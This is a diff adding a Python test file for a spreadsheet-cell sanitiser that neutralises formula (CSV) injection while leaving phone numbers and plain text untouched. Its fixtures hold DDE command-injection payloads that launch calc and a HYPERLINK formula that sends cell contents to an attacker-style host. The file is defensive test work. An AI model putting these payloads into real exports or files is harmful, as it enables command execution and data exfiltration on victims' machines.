@@ -1,0 +1,50 @@
+"""No text becomes a formula of a spreadsheet; what people usually write stays as it is."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from c2c_frappe.pbx.cells import as_text
+
+
+@pytest.mark.parametrize(
+	"text",
+	[
+		"=cmd|' /C calc'!A0",
+		"+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		"- 1 +cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		'=HYPERLINK("https://evil.example?"&A1,"See")',
+		"\t=1+1",
+		"\r\n@x",
+		" =1+1",
+		"+1\n+HYPERLINK(A1)",
+	],
+)
+def test_a_formula_is_quoted_once(text):
+	assert as_text(text) == f"'{text}"
+	assert as_text(as_text(text)) == as_text(text)
+
+
+@pytest.mark.parametrize(
+	"text",
+	[
+		"",
+		None,
+		"Wants a quote (soon)!",
+		"+44 7700 900123",
+		"+44 (0)20 7946 0018",
+		"+44XXXXXX",
+		"- calls back",
+		"a = b",
+		"'",
+	],
+)
+def test_what_is_no_formula_stays(text):
+	assert as_text(text) == text
+
+
+@given(st.text())
+def test_nothing_is_lost(text):
+	assert as_text(text).removeprefix("'") == text.removeprefix("'")
